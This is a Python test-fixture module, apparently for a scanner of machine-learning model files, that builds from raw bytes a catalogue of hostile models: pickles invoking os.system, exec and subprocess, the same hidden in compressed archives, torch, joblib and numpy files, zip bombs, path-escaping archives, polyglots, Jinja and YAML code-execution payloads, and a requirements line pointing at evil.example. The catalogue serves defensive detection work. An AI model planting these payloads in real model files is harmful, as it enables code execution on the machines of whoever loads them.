"""Models that do harm when they are loaded, or hide what they are, each made from raw bytes; none is ever loaded."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import zipfile
import zlib
from typing import Any

import cloudpickle
import joblib
import numpy as np

from inspection.forge import (
    PROTO4,
    archive,
    called,
    found,
    gguf,
    hdf5,
    keras_config,
    keras_layer,
    named,
    npy,
    onnx,
    safetensors,
    saved_model,
    short_text,
    tar,
    torch_legacy,
    torch_state,
    torch_zip,
)

Files = dict[str, bytes]
EVIL = called("os", "system")
TEXT = b"cos\nsystem\n(S'id'\ntR."
MLMODEL = b"flavors:\n  python_function:\n    loader_module: %s\n    python_version: 3.11.7\n"


class Attack:
    """Pickles as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def pickled(protocol: int) -> bytes:
    """A call of print's neighbour `exec`, by Python's own pickler."""
    return pickle.dumps(Attack(exec, "import os"), protocol)


def saved(value: Any, **options: Any) -> bytes:
    """By joblib."""
    file = io.BytesIO()
    joblib.dump(value, file, **options)
    return file.getvalue()


def arrays(value: Any) -> bytes:
    """By numpy."""
    file = io.BytesIO()
    np.save(file, value, allow_pickle=True)
    return file.getvalue()


def lying_zip() -> bytes:
    """The directory says one name, the member itself another."""
    return archive({"harmless.txt": b"x" * 20}).replace(b"harmless.txt", b"harmless.pkl", 1)


def flagged_zip() -> bytes:
    """The directory says that the member is encrypted; it is not."""
    content = bytearray(archive({"data.pkl": EVIL}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def bad_crc() -> bytes:
    """Careful readers refuse the member, others load it."""
    content = bytearray(archive({"model/data.pkl": EVIL}))
    for mark, place in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        content[content.index(mark) + place] ^= 0xFF
    return bytes(content)


def overlapping_zip() -> bytes:
    """Two entries of the directory share one member's bytes."""
    content = archive({"a.txt": b"a" * 100})
    at, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    entry = content[at:end]
    record = bytearray(content[end:])
    record[8:12] = struct.pack("<HH", 2, 2)
    record[12:16] = struct.pack("<I", 2 * len(entry))
    return content[:at] + entry + entry + bytes(record)


def zip_bomb() -> bytes:
    """A thousand times as long unpacked."""
    return archive({"data.bin": b"\0" * (150 << 20)}, zipfile.ZIP_DEFLATED)


def linked_zip() -> bytes:
    """A member that is a symbolic link."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        info = zipfile.ZipInfo("weights")
        info.external_attr = 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    return file.getvalue()


def hidden_in_array() -> bytes:
    """joblib reads raw numbers where any other reader goes on with opcodes, and the reverse."""
    dtype = found("numpy", "dtype") + short_text("u1") + b"\x89\x88\x87R"
    raw = found("os", "system") + short_text("id") + b"\x85R."
    state = short_text("subclass") + found("numpy", "ndarray") + short_text("shape") + b"K%c\x85" % len(raw)
    state += short_text("order") + short_text("C") + short_text("dtype") + dtype + short_text("allow_mmap") + b"\x88"
    return PROTO4 + found("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + state + b"ub" + raw + b"."


def lambda_h5() -> bytes:
    """A Keras model of old with a layer of marshalled code."""
    code = base64.b64encode(marshal.dumps(compile("1", "x", "eval"))).decode()
    return hdf5(b"model_config", keras_config(keras_layer("Lambda", None, function=[code, None, None])))


def pickles() -> dict[str, bytes]:
    """Pickles of every protocol and trick."""
    memo = PROTO4 + short_text("os") + b"\x94" + short_text("system") + b"\x94" + b"00h\x00h\x01\x93"
    return {
        **{f"protocol-{protocol}": pickled(protocol) for protocol in range(6)},
        "os-system": EVIL,
        "posix-global": b"\x80\x02" + named("posix", "system") + b"X\x02\0\0\0id\x85R.",
        "text-protocol": b"cposix\nsystem\n(S'id'\ntR.",
        "text-protocol-in-python2-words": b"c__builtin__\neval\n(S'1'\ntR.",
        "inst": b"(S'id'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'id'\no.",
        "newobj": PROTO4 + found("subprocess", "Popen") + short_text("id") + b"\x85\x81.",
        "newobj-ex": PROTO4 + found("subprocess", "Popen") + short_text("id") + b"\x85}\x92.",
        "pip-main": called("pip", "main"),
        "resolve-name": called("pkgutil", "resolve_name", "os.system"),
        "attrgetter": called("operator", "attrgetter", "system"),
        "runpy": called("runpy", "run_path"),
        "timeit": called("timeit", "timeit"),
        "idlelib": called("idlelib.pyshell", "ModifiedInterpreter"),
        "webbrowser": called("webbrowser", "open"),
        "numpy-runstring": called("numpy.testing._private.utils", "runstring"),
        "numpy-load": called("numpy", "load"),
        "torch-load": called("torch", "load"),
        "torch-hub": called("torch.hub", "load"),
        "unknown-package": called("somewhere.unknown", "build"),
        "sklearn-loader": called("sklearn.datasets._base", "load_files"),
        "sklearn-dotted-name": called("sklearn.linear_model._base", "os.system"),
        "sklearn-joblib": called("sklearn.ensemble._forest", "Parallel"),
        "getattr-chain": PROTO4 + found("builtins", "getattr") + found("builtins", "__import__") + b"\x85R.",
        "nested-name": called("builtins", "object.__subclasses__"),
        "ufunc": PROTO4 + found("numpy.core", "_ufunc_reconstruct") + short_text("os") + short_text("fork") + b"\x86R.",
        "reconstructor": b"\x80\x02ccopy_reg\n_reconstructor\n(cio\nFileIO\ncio\nFileIO\nX\x02\0\0\0/xtR.",
        "rebuild-any": PROTO4 + found("torch._tensor", "_rebuild_from_type_v2") + b"(" + found("os", "fork") + b"N}tR.",
        "codec": PROTO4 + found("_codecs", "encode") + short_text("x") + short_text("zlib") + b"\x86R.",
        "booster-with-file": called("xgboost.core", "Booster", "/etc/passwd"),
        "memo": memo + short_text("id") + b"\x85R.",
        "pop-mark": PROTO4 + b"(" + short_text("x") + b"1" + EVIL[2:],
        "dup": PROTO4 + found("os", "system") + b"20" + short_text("id") + b"\x85R.",
        "computed-name": PROTO4 + short_text("os") + found("builtins", "str") + short_text("system") + b"\x85R\x93"
        + short_text("id") + b"\x85R.",
        "calls-what-it-built": PROTO4 + found("types", "SimpleNamespace") + b")\x81" + short_text("id") + b"\x85R.",
        "changes-a-class": PROTO4 + found("collections", "OrderedDict") + b"}" + short_text("x") + b"K\x01sb.",
        "extension": b"\x80\x02\x82\x07)R.",
        "extension-4": b"\x80\x02\x84\x07\0\0\0)R.",
        "extension-without-mark": b"\x82\x07.",
        "extension-called-then-breaks": b"\x82\x07)R\xff",
        "extension-changed-then-breaks": b"\x82\x07}b\xff",
        "persistent-id": b"\x80\x02X\x02\0\0\0idQ.",
        "concatenated": pickle.dumps({"a": 1}) + EVIL,
        "text-with-a-binary-end": b"cos\nsystem\nVid\n\x85R.",
        "long-text-with-a-binary-end": b"cos\nsystem\nV" + b"#" * 5_000 + b"\n\x85R.",
        "text-behind-text": b"Va\n." + TEXT,
        "text-behind-a-long-float": b"F1." + b"0" * 70_000 + b"\n0" + TEXT,
        "text-behind-a-long-number": b"I" + b"0" * 70_000 + b"\n0" + TEXT,
        "text-behind-a-hexadecimal-number": b"L0x" + b"0" * 5_000 + b"\n0" + TEXT,
        "text-behind-no-character-by-name": b"S'\\N'\n0" + TEXT,
        "text-behind-no-character-by-number": b"S'\\u00'\n0" + TEXT,
        "text-that-changes-a-thing-then-breaks": b"cos\nenviron\nS'PYTHONSTARTUP'\nS'/x'\ns",
        "text-that-changes-a-module-then-breaks": b"cbuiltins\n__dict__\nS'len'\ncos\nsystem\ns\n",
        "text-behind-binary": pickle.dumps({"a": 1}) + TEXT,
        "runs-then-breaks": EVIL[:-1] + b"\xff\xff",
        "runs-then-ends": EVIL[:-1],
        "broken": PROTO4 + b"}(" + short_text("a") + b"\xfe",
        "pickle-in-bytes": pickle.dumps({"inner": EVIL}),
        "pickle-in-long-bytes": pickle.dumps({"inner": EVIL + b"\0" * 5000}),
        "long-name": PROTO4 + b"X" + struct.pack("<I", 600) + b"o" * 600 + short_text("x") + b"\x93.",
        "dill": b"\x80\x04" + found("dill._dill", "_create_function") + b")R.",
        "cloudpickle": cloudpickle.dumps(lambda x: x + 1),
        "nothing-but-import": PROTO4 + found("antigravity", "fly") + b".",
    }  # fmt: skip


def containers() -> dict[str, Files]:
    """The same, hidden."""
    return {
        "renamed-txt": {"notes.txt": EVIL},
        "renamed-safetensors": {"model.safetensors": EVIL},
        "gzip": {"model.gz": gzip.compress(EVIL)},
        "two-gzips": {"model.gz": gzip.compress(pickle.dumps(1)) + gzip.compress(EVIL)},
        "bzip2": {"model.bin": bz2.compress(EVIL)},
        "xz": {"model.bin": lzma.compress(EVIL)},
        "lzma": {"model.bin": lzma.compress(EVIL, lzma.FORMAT_ALONE)},
        "zlib": {"model.bin": zlib.compress(EVIL)},
        "zip": {"model.zip": archive({"a/b.txt": EVIL})},
        "zip-in-zip": {"model.zip": archive({"inner.dat": archive({"x": EVIL}, zipfile.ZIP_DEFLATED)})},
        "zip-bzip2": {"model.zip": archive({"x": EVIL}, zipfile.ZIP_BZIP2)},
        "zip-lzma": {"model.zip": archive({"x": EVIL}, zipfile.ZIP_LZMA)},
        "tar": {"model.tar": tar({"x": EVIL})},
        "tar-gz": {"model.nemo": tar({"w/x.ckpt": EVIL}, mode="w:gz")},
        "gzip-in-tar-in-zip": {"m": archive({"t": tar({"g": gzip.compress(EVIL)})})},
        "seven-zip": {"m.7z": b"7z\xbc\xaf\x27\x1c\0\x04" + EVIL},
        "zstd": {"m.zst": b"\x28\xb5\x2f\xfd" + EVIL},
        "too-deep": {"m": deep(EVIL)},
        "torch-zip": {"model.pt": torch_zip(EVIL)},
        "torch-zip-second-pickle": {"model.pt": torch_zip(torch_state(), extra={"archive/extra.pkl": EVIL})},
        "torch-zip-storage": {"model.pt": torch_zip(torch_state(), extra={"archive/data/7": EVIL})},
        "torch-legacy": {"model.pth": torch_legacy(EVIL)},
        "torch-legacy-behind": {"model.pth": torch_legacy(torch_state()) + EVIL},
        "torch-tar": {"model.tar": tar({"pickle": EVIL, "storages": b"\0" * 16, "tensors": b""})},
        "torchscript": {"m.pt": torch_zip(b"\x80\x02}.", extra={"archive/code/x.py": b"def f(): pass"})},
        "npy": {"a.npy": arrays(np.array([Attack(exec, "1")], dtype=object))},
        "npy-structured": {"a.npy": npy("[('a', '<f4'), ('b', '|O')]", EVIL)},
        "npz": {"a.npz": archive({"a.npy": npy("'|O'", EVIL)})},
        "joblib": {"m.joblib": saved({"x": np.zeros(4), "y": Attack(exec, "1")})},
        "joblib-object-array": {"m.joblib": saved(np.array([Attack(exec, "1"), None], dtype=object))},
        "joblib-behind-array": {"m.joblib": saved([np.arange(1000.0), Attack(exec, "1")])},
        "joblib-zlib": {"m.joblib": saved(Attack(exec, "1"), compress=3)},
        "joblib-lzma": {"m.joblib": saved([np.zeros(9), Attack(exec, "1")], compress=("lzma", 1))},
        "joblib-array-of-opcodes": {"m.joblib": hidden_in_array()},
    }


def deep(content: bytes) -> bytes:
    """In twelve archives."""
    for _ in range(12):
        content = gzip.compress(content, 1)
    return content


def archives() -> dict[str, Files]:
    """Archives that lie, leave their folder or blow up."""
    return {
        "zip-two-names": {"m.zip": lying_zip()},
        "zip-flag-bits": {"m.zip": flagged_zip()},
        "zip-bad-crc": {"m.zip": bad_crc()},
        "zip-overlap": {"m.zip": overlapping_zip()},
        "zip-bomb": {"m.zip": zip_bomb()},
        "gzip-bomb": {"m.gz": gzip.compress(b"\0" * (160 << 20), 1)},
        "zip-slip": {"m.zip": archive({"../../etc/cron.d/x": b"x"})},
        "zip-slip-backslash": {"m.zip": archive({"..\\x.txt": b"x"})},
        "zip-absolute": {"m.zip": archive({"/etc/x": b"x"})},
        "zip-link": {"m.zip": linked_zip()},
        "zip-prefix": {"m.zip": b"#" * 100 + archive({"x": EVIL})},
        "zip-twice": {"m.zip": twice()},
        "tar-slip": {"m.tar": tar({"../x": b"x"})},
        "tar-link": {"m.tar": tar({}, {"w": "/etc/passwd"})},
        "tar-behind-end": {"m.tar": tar({"a": b"a"}) + EVIL},
        "polyglot-safetensors": {"m.safetensors": safetensors({"w": ("F32", [2], 8)}) + archive({"x": EVIL})},
        "polyglot-png": {"m.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64 + archive({"data.pkl": EVIL})},
        "polyglot-npy": {"m.npy": npy("'<f8'", b"\0" * 24) + archive({"x": EVIL})},
        "polyglot-png-keras": {"m.h5": b"\x89PNG\r\n\x1a\n".ljust(2048, b"\0") + lambda_h5()},
        "polyglot-gif-pickle": {"model.pkl": b"GIF89a\1\0\1" + b"0" + TEXT},
        "polyglot-catboost-pickle": {"model.pkl": b"CBM1" + b"x" * 64 + b"0" + TEXT},
        "polyglot-tflite-pickle": {"model.pkl": b"C\x06xxTFL3" + b"0" + TEXT},
        "polyglot-tar-pickle": {"model.pkl": tar({TEXT.decode(): b"x"})},
        "polyglot-safetensors-pickle": {"model.pkl": safetensors_and_pickle()},
    }


def safetensors_and_pickle() -> bytes:
    """The length in front says V, which takes the header up to its one line feed as a text; the tensor is the rest."""
    body = b"0" + TEXT
    header: dict[str, Any] = {"w": {"dtype": "U8", "shape": [len(body)], "data_offsets": [0, len(body)]}}
    header["__metadata__"] = {"a": "x" * (0x156 - len(json.dumps(header)) - 28)}
    text = json.dumps(header).encode()[:-1] + b"\n}"
    return struct.pack("<Q", len(text)) + text + body


def twice() -> bytes:
    """Two members of one name."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("data.txt", "harmless")
        made.writestr("data.txX", EVIL)
    return file.getvalue().replace(b"data.txX", b"data.txt")


def others() -> dict[str, Files]:
    """Formats that run something by design, and metadata that makes something run."""
    template = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    own = keras_layer("function", "os", config="system")
    return {
        "keras-lambda": {"m.keras": archive({"config.json": keras_config(keras_layer("Lambda"))})},
        "keras-module": {"m.keras": archive({"config.json": keras_config(own)})},
        "keras-json": {"config.json": keras_config(keras_layer("Lambda"))},
        "keras-download": {"config.json": keras_config(keras_layer("function", "keras.utils", config="get_file"))},
        "keras-h5": {"m.h5": lambda_h5()},
        "keras-h5-escaped": {"m.h5": lambda_h5().replace(b"Lambda", b"\\u004cambda")},
        "tensorflow-write": {"saved_model.pb": saved_model("Placeholder", "WriteFile")},
        "tensorflow-read": {"model/saved_model.pb": saved_model("Const", "ReadFile", "Identity")},
        "tensorflow-in-function": {"saved_model.pb": saved_model("MatMul", "EagerPyFunc", in_function=True)},
        "onnx-outside": {"m.onnx": onnx("../../../etc/passwd")},
        "onnx-absolute": {"m.onnx": onnx("/etc/passwd")},
        "onnx-domain": {"m.onnx": onnx(domain="com.evil")},
        "elf": {"libmodel.bin": b"\x7fELF\x02\x01\x01" + b"\0" * 100},
        "windows": {"x.bin": b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0" + b"\0" * 50},
        "mach-o": {"x.bin": b"\xcf\xfa\xed\xfe" + b"\0" * 60},
        "elf-in-zip": {"x.zip": archive({"lib/x": b"\x7fELF\x02\x01\x01" + b"\0" * 100})},
        "gguf-template": {"m.gguf": gguf({"tokenizer.chat_template": template})},
        "chat-template": {"tokenizer_config.json": json.dumps({"chat_template": template}).encode()},
        "jinja-file": {"chat_template.jinja": template.encode()},
        "yaml-tag": {"params.yaml": b"a: !!python/object/apply:os.system ['id']\n"},
        "yaml-tag-directive": {"notes.txt": b"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.fork []\n"},
        "yaml-long-tag": {"x.yml": b"- !<tag:yaml.org,2002:python/object/new:os.system> [id]\n"},
        "mlmodel-code": {"MLmodel": MLMODEL % b"mlflow.sklearn" + b"    code: code\n"},
        "mlmodel-loader": {"MLmodel": MLMODEL % b"my_package.loader"},
        "mlmodel-bomb": {"MLmodel": billion_laughs()},
        "python-file": {"loader.py": b"import os\nos.system('id')\n"},
        "shell-file": {"run": b"#!/bin/sh\nid\n"},
        "byte-code": {"x.dat": b"\xa7\r\r\n\0\0\0\0" + b"\xe3" + b"\0" * 40},
        "auto-map": {"config.json": b'{"auto_map": {"AutoModel": "modeling.Model"}}'},
        "index-url": {"requirements.txt": b"numpy==2.0\n--index-url http://evil.example/simple\n"},
        "conda-git": {"MLmodel": MLMODEL % b"mlflow.sklearn", "conda.yaml": b"dependencies:\n- pip:\n  - git+https://x/y\n"},
        "unknown-binary": {"weights.dat": bytes(range(256)) * 4},
        "broken-safetensors": {"m.safetensors": safetensors({"w": ("F32", [2], 8)})[:-1]},
        "safetensors-overlap": {"m.safetensors": safetensors({"w": ("F32", [3], 8)})},
    }  # fmt: skip


def billion_laughs() -> bytes:
    """Aliases of aliases."""
    lines = [b"a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [b"a%d: &a%d [%s]" % (at, at, b", ".join([b"*a%d" % (at - 1)] * 10)) for at in range(1, 15)]
    return b"\n".join([b"flavors: {}", *lines, b""])


def hostile() -> dict[str, Files]:
    """Every hostile model by name, as the files of a version."""
    made = {f"pickle-{name}": {"model.pkl": content} for name, content in pickles().items()}
    return made | containers() | archives() | others()


# Those that must be told to be unsafe; what is not among them can only be told not to be known as safe.
UNVERIFIED = {
    "pickle-persistent-id", "pickle-broken", "seven-zip", "zstd", "too-deep", "torchscript", "onnx-domain",
    "mlmodel-code", "mlmodel-loader", "mlmodel-bomb", "python-file", "shell-file", "byte-code", "auto-map", "index-url",
    "conda-git", "unknown-binary", "broken-safetensors", "safetensors-overlap", "tar-behind-end",
}  # fmt: skip
